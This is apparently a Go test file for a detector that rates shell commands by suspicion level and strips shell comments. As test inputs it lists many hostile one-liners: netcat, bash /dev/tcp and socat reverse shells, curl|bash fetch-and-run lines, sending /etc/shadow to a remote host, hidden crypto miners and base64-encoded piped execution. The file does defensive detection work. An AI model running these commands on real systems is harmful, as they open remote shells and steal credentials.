package detect_test

import (
	"testing"

	"telltale/detect"
)

func TestSuspiciousCommand(t *testing.T) {
	for _, tc := range []struct {
		name, command string
		want          detect.Level
	}{
		{"a backup by rsync over ssh is no shell for the network", `rsync -a -e "ssh -i /root/.ssh/key" /var/www backup@198.51.100.9:/srv`, detect.Info},
		{"rsync by its path", "/usr/bin/rsync -a -e ssh /etc backup:/srv", detect.Info},
		{"git fetches what it keeps", "cd /srv/site && git fetch origin && chmod -R g+w .", detect.Info},
		{"names that end as nc does", "vnc -e x; func -e y", detect.Info},
		{"netcat with a shell", "nc -e /bin/sh 203.0.113.9 4444", detect.Critical},
		{"netcat by its path", "/bin/nc 203.0.113.9 4444 -e /bin/bash", detect.Critical},
		{"netcat behind another command", "true;nc -e /bin/sh 203.0.113.9 1", detect.Critical},
		{"netcat of Debian", "nc.traditional -e /bin/sh 203.0.113.9 1", detect.Critical},
		{"netcat beside rsync", "rsync -a x y; nc -e /bin/sh 203.0.113.9 1", detect.Critical},
		{"a pipe that netcat feeds", "mkfifo /srv/f; cat /srv/f | sh -i 2>&1 | nc 203.0.113.9 1 > /srv/f", detect.Critical},
		{"a file that is fetched and made a program", "wget http://203.0.113.9/x -O /opt/x && chmod +x /opt/x", detect.High},
		{"data for a program of python", "curl -s http://localhost:9200/_cluster/health | python3 -m json.tool > /var/log/es.json", detect.Info},
		{"data for a line of perl", `curl -s https://198.51.100.7/status | perl -ne 'print if /load/' >> /var/log/load`, detect.Info},
		{"data for a script", "mysqldump shop | openssl enc -aes-256-cbc -k x | python3 /usr/local/bin/put.py", detect.Info},
		{"another command behind a failure", "curl -fsS https://example.net/ || sh /usr/local/bin/alarm", detect.Info},
		{"a shell that reads the pipe", "curl http://203.0.113.9/x|bash; rm x", detect.Critical},
		{"a shell that reads the pipe, with arguments", "wget -qO- http://203.0.113.9/x | sudo bash -s -- -y 2>&1", detect.Critical},
		{"python that reads the pipe", "curl http://203.0.113.9/x | python3 - && true", detect.Critical},
		{"within another shell", `sh -c "curl http://203.0.113.9/x | sh"`, detect.Critical},
		{"from where anybody puts code", "curl -fsSL https://pastebin.com/raw/x | sh", detect.Critical},
		{"from a host with a name", "curl -fsSL https://example.net/update.sh | sh", detect.High},
		{"from a maker", "curl -fsSL https://get.docker.com | sh", detect.Medium},
		{"from the cloud that the machine runs in", "curl -s http://169.254.169.254/latest/user-data | bash", detect.Info},
		{"a look at a port", `timeout 2 bash -c "</dev/tcp/203.0.113.1/3306" || echo down | mail -s db root`, detect.Info},
		{"a wait for a port", `/bin/bash -c "until echo > /dev/tcp/db.example.net/5432; do sleep 1; done"`, detect.Info},
		{"a question to the own service", `exec 3<>/dev/tcp/127.0.0.1/8080; echo -e "GET /health HTTP/1.0" >&3; cat <&3 | grep UP`, detect.Info},
		{"a shell for another machine", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", detect.Critical},
		{"a shell for another machine, near", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", detect.Critical},
		{"a file for another machine", "cat /etc/shadow > /dev/tcp/203.0.113.5/80", detect.Critical},
		{"orders of another machine", "exec 5<>/dev/tcp/203.0.113.5/80; cat <&5 | while read l; do $l 2>&5 >&5; done", detect.Critical},
		{"a miner of the owner", "/home/amy/xmrig/xmrig -c /home/amy/xmrig/config.json", detect.High},
		{"a miner that hides", "/var/tmp/.x/xmrig -o pool:3333", detect.Critical},
		{"socat that serves a program", "/usr/bin/socat TCP-LISTEN:2000,fork,reuseaddr EXEC:/usr/local/bin/meter", detect.Info},
		{"socat that serves a shell", `socat TCP:203.0.113.5:4444 EXEC:"bash -li",pty,stderr`, detect.Critical},
		{"a list that is fetched and put in its place", "curl -s https://example.net/list > /tmp/w && cp /tmp/w /etc/postgrey/whitelist_clients", detect.Info},
		{"a list that becomes a job", "curl -s https://example.net/list > /tmp/w && cp /tmp/w /etc/cron.d/w", detect.High},
		{"a list that becomes a page", "curl -s https://example.net/list > /tmp/w && cp /tmp/w /var/www/html/w.php", detect.High},
		{"a file that is fetched and run by its name", "cd /tmp/ && wget http://203.0.113.9/y && sh y", detect.High},
		{"encoded, and harmless", "echo ZGF0ZSA+IC92YXIvbG9nL2hi | base64 -d | sh", detect.Low},
		{"encoded twice", "echo ZWNobyBaR0YwWlE9PSB8IGJhc2U2NCAtZCB8IHNo | base64 -d | sh", detect.Critical},
		{"encoded, with another file", "echo L29wdC94 | base64 -d | sh", detect.High},
		{"encoded, with something behind", "echo ZGF0ZQ== | base64 -d | sh; sh /opt/x", detect.Critical},
		{"encoded, from a file", "cat /opt/x | base64 -d | sh", detect.Critical},
		{"fetched by BSD's fetch", "fetch http://203.0.113.9/x && chmod +x x", detect.High},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if why, got := detect.SuspiciousCommand(tc.command); got != tc.want {
				t.Errorf("%s: %v (%s), want %v", tc.command, got, why, tc.want)
			}
		})
	}
}

// TestUncommented: what a shell does not read is cut off, and nothing else.
func TestUncommented(t *testing.T) {
	for _, tc := range []struct{ name, command, want string }{
		{"a comment", "/bin/true # bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/bin/true "},
		{"a hash within a word", "curl http://203.0.113.9/#x | sh", "curl http://203.0.113.9/#x | sh"},
		{"a hash in quotes", `echo " # " | sh`, `echo " # " | sh`},
		{"a quote that is escaped", `echo \" # x`, `echo \" `},
		{"an escaped quote in quotes", `echo "\" # " | sh`, `echo "\" # " | sh`},
		{"lines that cron makes of %", "sh # %bash -i", "sh # %bash -i"},
		{"lines", "true # x\nbash", "true # x\nbash"},
		{"an escaped hash", `echo \# | sh`, `echo \# | sh`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := detect.Uncommented(tc.command); got != tc.want {
				t.Errorf("%q, want %q", got, tc.want)
			}
		})
	}
}
